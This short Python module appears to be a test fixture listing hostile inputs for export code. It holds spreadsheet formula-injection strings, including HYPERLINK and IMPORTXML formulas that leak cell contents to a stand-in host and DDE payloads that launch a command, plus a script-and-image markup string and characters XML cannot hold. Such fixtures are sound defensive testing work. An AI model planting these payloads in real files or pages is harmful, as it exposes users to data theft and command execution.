"""Texts that a spreadsheet would run, that no XML may hold, and that a page would take for markup."""

FORMULAS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "=1+1",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    '=1+2";=1+2',
    "=1+2'\" ;,=1+2",
    "＝1+1",
    '=IMPORTXML(CONCAT("http://evil.example?v=", A1), "//a")',
    "{=1+1}",
    "http://evil.example/",
    "007",
)
MARKUP = '<script>alert(1)</script><img src="http://evil.example/x.png"> & "quoted" \'single\''
UNWRITABLE = "bell\x07 tab\x0b null\x00 half\ud800 end\uffff"
